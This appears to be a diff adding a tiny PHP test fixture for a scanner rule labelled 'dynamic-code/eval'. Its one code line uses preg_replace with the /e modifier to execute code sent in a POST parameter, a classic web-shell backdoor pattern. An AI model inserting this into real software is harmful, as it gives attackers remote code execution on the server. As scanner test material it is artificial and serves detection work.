@@ -1,0 +1,2 @@
+<?php // finds: dynamic-code/eval
+preg_replace('/.*/e', $_POST['x'], '');
